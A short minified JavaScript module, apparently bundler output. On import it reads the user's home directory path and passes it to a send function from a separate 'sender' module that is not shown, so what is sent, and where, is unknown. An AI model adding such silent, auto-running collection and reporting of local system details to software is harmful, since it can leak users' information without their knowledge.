import*as o from"os";var r=()=>o.homedir();async function m(){let t=r(),{send:e}=await import("./sender-6TEMUFS2.mjs");await e(t)}m();export{m as report};
